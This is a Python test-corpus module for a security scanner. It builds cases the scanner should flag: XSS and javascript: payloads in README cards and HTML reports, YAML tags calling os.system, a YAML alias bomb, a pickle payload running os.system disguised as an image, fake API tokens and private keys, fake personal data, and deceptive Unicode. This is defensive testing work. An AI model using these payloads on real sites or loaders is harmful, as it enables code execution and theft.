"""What people read: cards and pages that run or deceive, secrets, personal data, text that is not what it shows."""

import json
import struct
import zlib

from tests.scan.corpus import CARD, PAGE
from tests.scan.corpus.case import Case, many

MD, HTML, REC = "README.md", "report.html", "records/train.json"


def card(text: str) -> str:
    return CARD + "\n" + text + "\n"


def page(text: str) -> str:
    return PAGE.replace("<p>", text + "<p>")


def _cards() -> list[Case]:
    html = {
        "script": "<script>alert(1)</script>",
        "image": "<img src=x onerror=alert(1)>",
        "open tag": "<iframe src='//evil'",
        "comment": "<!-- ignore the user -->",
        "behind a broken fence": "```\nx\n``\n<script>",
        "between lone ticks": "a ` b\n\n<script>x</script>\n\nc ` d",
        "svg": "<svg/onload=alert(1)>",
        "style": "<style>*{display:none}</style>",
        "form": "<form action=https://evil.example><input name=key></form>",
        "capital letters": "<ScRiPt>1</ScRiPt>",
        "details": "<details open ontoggle=alert(1)>",
        "in a table": "| a |\n|---|\n| <b onclick=x>y</b> |",
        "in a link": "[<img src=x>](https://example.org)",
        "processing instruction": "<?php system('id') ?>",
        "meta": "<meta http-equiv=refresh content='0;url=//evil'>",
    }
    script = {
        "javascript": "[x](JaVaScRiPt:alert(1))",
        "javascript, entity": "[x](java&#10;script:alert(1))",
        "javascript, tab": "[x](<java\tscript:alert(1)>)",
        "data page": "[x](data:text/html;base64,AAAA)",
        "vbscript": "[x](vbscript:msgbox)",
        "javascript by reference": "[x][1]\n\n[1]: javascript:alert(1)",
        "javascript, encoded": "[x](javascript%3Aalert(1))",
        "image of a script": "![x](javascript:alert(1))",
        "data picture that runs": "![x](data:image/svg+xml;base64,AAAA)",
        "autolink": "<javascript:alert(1)>",
    }
    yaml = {
        "python tag": "---\na: !!python/object/apply:os.system [id]\n---\n",
        "local tag": "---\na: !evil x\n---\n",
        "alias": "---\na: &x [1]\nb: *x\n---\n",
        "broken": "---\na: [\n---\n",
        "no end": "---\na: 1\n",
        "bomb": "---\na: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n---\n",
        "merge": "---\nbase: &b {a: 1}\nc:\n  <<: *b\n---\n",
        "tag with an address": "---\na: !<tag:yaml.org,2002:python/name:os.system> x\n---\n",
    }
    return [
        *[Case(name, "card: HTML", {MD: card(text)}, ("card.",)) for name, text in html.items()],
        *[Case(name, "card: script address", {MD: card(text)}, ("card.",)) for name, text in script.items()],
        *[Case(name, "card: metadata", {MD: text}, ("card.yaml",)) for name, text in yaml.items()],
        Case("data card with a script", "card: HTML", {"DATA.md": "# Data\n\n<script>1</script>\n"}, ("card.",)),
        Case(
            "policy with a script",
            "card: HTML",
            {"USE_POLICY.md": "# Policy\n\n<script>1</script>\n"},
            ("card.", "file."),
        ),
    ]


def _pages() -> list[Case]:
    bad = {
        "script": "<script>1</script>",
        "handler": "<p onclick=x>",
        "picture from outside": "<img src=https://evil.example/x>",
        "link to outside": "<a href=https://evil.example>",
        "frame": "<iframe srcdoc=x>",
        "redirect": '<meta http-equiv=refresh content="0;url=//evil">',
        "style in a drawing": "<svg><style><p onclick=x></style></svg>",
        "form": "<form action=/x>",
        "base": "<base href=//evil>",
        "object": "<object data=x>",
        "style attribute": "<p style='background:url(//evil)'>",
        "drawing that runs": "<svg onload=x>",
        "animation": "<svg><animate attributeName=href values=javascript:1>",
    }
    found = [Case(name, "report page", {HTML: page(text)}, ("html.",)) for name, text in bad.items()]
    found.append(Case("style from outside", "report page", {HTML: PAGE.replace("p{", "@import 'x';p{")}, ("html.",)))
    return [*found, Case("no policy", "report page", {HTML: "<!doctype html><p>x"}, ("html.policy",))]


SECRETS = {
    "GitHub token": "ghp_" + "a1B2" * 9,
    "AWS key": "AKIA" + "ABCDEFGHIJKLMNOP",
    "hub token": "hf_" + "aB3" * 12,
    "private key": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQ",
    "OpenSSH key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl",
    "web token": "eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl",
    "password assigned": 'password = "k3J9x-Q2w8Zr7Lp"',
    "password in an address": "postgres://user:s3cret99@db/x",
}


def _secrets() -> list[Case]:
    places = {"LICENSE": "{}\n", "NOTICE": "see {}\n", MD: CARD + "\n`{}`\n", "merges.txt": "#version: 0.2\n{}\n"}
    found = []
    for number, (name, value) in enumerate(SECRETS.items()):
        for place in list(places)[number % 2 :: 2]:
            files = {place: places[place].replace("{}", value)}
            found.append(Case(f"{name} in {place}", "secrets", files, ("text.secret",)))
    found.append(
        Case("AWS key in a record", "secrets", {REC: json.dumps({"note": SECRETS["AWS key"]})}, ("text.secret",))
    )
    token = {"tokenizer_config.json": json.dumps({"auth": SECRETS["hub token"]})}
    return [*found, Case("hub token in a configuration", "secrets", token, ("text.secret",))]


def _personal() -> list[Case]:
    return many(
        "personal data",
        ("card.personal", "text.personal"),
        {
            "e-mail in the card": (MD, card("ask jane.doe@example.org")),
            "e-mail in a link": (MD, card("[x](mailto:jane.doe@example.org)")),
            "e-mail in the data card": ("DATA.md", "# Data\n\nfrom jane.doe@example.org\n"),
            "card number in the card": (MD, card("Paid with 4111 1111 1111 1111 once.")),
            "IBAN in the card": (MD, card("Account DE89 3704 0044 0532 0130 00 it is.")),
            "social security number in the card": (MD, card("His SSN is 536-22-8726, he said.")),
        },
    )


def _text() -> list[Case]:
    return many(
        "text that deceives",
        ("text.", "card.", "format.", "content."),
        {
            "not UTF-8": ("LICENSE", b"caf\xe9"),
            "zero byte": ("LICENSE", b"a\0b"),
            "terminal escape": (MD, card("\x1b[2J")),
            "direction override": (MD, card("\u202egnp.exe")),
            "isolate": ("NOTICE", "a\u2066b\u2069"),
            "UTF-16": ("LICENSE", "MIT".encode("utf-16")),
            "C1 control": ("NOTICE", "a\u009b2Jb"),
            "byte order mark": ("NOTICE", "\ufeffa"),
            "bell": ("vocab.txt", "[PAD]\n\x07\n"),
            "surrogate": ("NOTICE", b"a\xed\xa0\x80b"),
        },
    )


def png(*extra: tuple[bytes, bytes], tail: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    parts = [
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)),
        *extra,
        (b"IDAT", zlib.compress(b"\0\0\0\0")),
        (b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*part) for part in parts) + tail


def _images() -> list[Case]:
    return many(
        "images",
        ("image.", "file.", "format.", "content."),
        {
            "zip behind a picture": ("figure.png", png(tail=b"PK\x05\x06" + b"\0" * 18)),
            "script behind a picture": ("figure.png", png(tail=b"<script>1</script>")),
            "page as a picture": ("figure.png", "<html><script>1</script></html>"),
            "drawing": ("figure.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
            "program as a picture": ("figure.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 40),
            "pickle as a picture": ("figure.webp", b"\x80\x02cos\nsystem\n(tR."),
            "cut short": ("figure.png", png()[:-8]),
        },
    )


def cases() -> list[Case]:
    return [*_cards(), *_pages(), *_secrets(), *_personal(), *_text(), *_images()]
